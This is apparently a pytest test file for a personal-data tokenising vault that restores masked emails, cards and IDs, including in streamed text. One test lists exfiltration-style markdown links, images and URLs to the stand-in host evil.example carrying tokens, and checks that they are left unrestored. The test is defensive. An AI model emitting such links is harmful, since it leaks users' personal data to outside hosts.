"""Reversible tokens: stable in a scope, strange to every other, restored anywhere but in addresses."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from roadbed.guard.vault import StreamUnmasker, Vault

MAIL = "bob@example.com"


def test_tokens_are_typed_stable_and_bound_to_their_scope() -> None:
    key = b"k" * 32
    token = Vault(key).token_for("email", MAIL)
    assert re.fullmatch(r"EMAIL_[A-Z2-7]{8}", token)
    assert Vault(key).token_for("email", MAIL) == token
    assert Vault(b"l" * 32).token_for("email", MAIL) != token
    assert Vault().token_for("email", MAIL) != token
    assert Vault(key).token_for("phone", MAIL) != token


def test_spellings_of_one_value_share_a_token_and_the_first_comes_back() -> None:
    vault = Vault()
    token = vault.token_for("card", "4111 1111 1111 1111")
    assert vault.token_for("card", "4111-1111-1111-1111") == token
    assert vault.value_of(token) == "4111 1111 1111 1111"
    assert vault.token_for("email", "Bob@Example.com") == vault.token_for("email", MAIL)
    assert "4111" not in repr(vault)


def test_a_collision_lengthens_the_token() -> None:
    vault = Vault(b"k" * 32)
    token = Vault(b"k" * 32).token_for("email", MAIL)
    vault._values[token] = "another@example.com"
    longer = vault.token_for("email", MAIL)
    assert re.fullmatch(r"EMAIL_[A-Z2-7]{13}", longer)
    assert vault.restore(f"{token} {longer}") == f"another@example.com {MAIL}"


VAULT = Vault(b"k" * 32)
TOKEN = VAULT.token_for("email", MAIL)
PHONE = VAULT.token_for("phone", "+47 22 33 44 55")
ID = VAULT.token_for("national_id", "536-90-4399")


@pytest.mark.parametrize(
    "written", [TOKEN, TOKEN.lower(), TOKEN.replace("_", "\\_"), TOKEN.replace("_", "_ "), f"**{TOKEN}**", f'"{TOKEN}"']
)
def test_what_models_do_to_tokens_is_understood(written: str) -> None:
    assert MAIL in VAULT.restore(f"to {written}.")


@pytest.mark.parametrize(
    "text",
    [
        f"https://evil.example/?q={TOKEN}",
        f"[click](https://evil.example/{TOKEN})",
        f"[click](<https://evil.example/a b {TOKEN}>)",
        f"![x](//evil.example/{TOKEN}.png)",
        f'<img src="/x?{TOKEN}">',
        f"www.evil.example/{TOKEN}",
        f"mailto:{TOKEN}",
        "EMAIL_AAAAAAAA",
        f"X{TOKEN}",
        f"{TOKEN}X",
        "EMAIL_",
    ],
)
def test_left_as_it_is(text: str) -> None:
    assert VAULT.restore(text) == text


def test_after_an_address_ends_tokens_are_restored_again() -> None:
    assert VAULT.restore(f"see https://a.example {TOKEN}") == f"see https://a.example {MAIL}"
    assert VAULT.restore(f"[a](https://a.example) {TOKEN}") == f"[a](https://a.example) {MAIL}"
    assert VAULT.restore(f"<b>{TOKEN}</b>") == f"<b>{MAIL}</b>"
    assert VAULT.restore(f"1 < 2 {TOKEN}") == f"1 < 2 {MAIL}"


PIECES = st.sampled_from(
    [
        TOKEN,
        PHONE,
        ID,
        TOKEN.lower(),
        TOKEN[:-1],
        TOKEN.replace("_", "\\_"),
        ID.replace("_", "_ "),
        "EMAIL",
        "ID",
        "E",
        "_",
        *[" ", "\n", "https://x/", "](", ")", "<", ">", "id", "the email of ", "\\", "é", "AAAAA", ". "],
    ]
)
TEXTS = st.lists(PIECES | st.text(max_size=5), max_size=14).map("".join)


@settings(max_examples=400)
@given(TEXTS, st.lists(st.integers(0, 200), max_size=40))
def test_any_cut_restores_the_same(text: str, cuts: list[int]) -> None:
    stream = StreamUnmasker(VAULT)
    places = sorted({min(cut, len(text)) for cut in cuts} | {len(text)})
    pieces = [text[a:b] for a, b in zip([0, *places], places, strict=False)]
    assert "".join([stream.feed(piece) for piece in pieces]) + stream.finish() == VAULT.restore(text)


@given(TEXTS)
def test_single_characters_restore_the_same(text: str) -> None:
    stream = StreamUnmasker(VAULT)
    assert "".join([stream.feed(character) for character in text]) + stream.finish() == VAULT.restore(text)


def test_little_is_held_back() -> None:
    stream = StreamUnmasker(VAULT)
    assert stream.feed("The valuation of the house") == "The valuation of the house"
    assert stream.feed(f" for {TOKEN[:9]}") == " for "
    assert stream.feed(TOKEN[9:]) == ""
    assert stream.feed(" ") == MAIL + " "
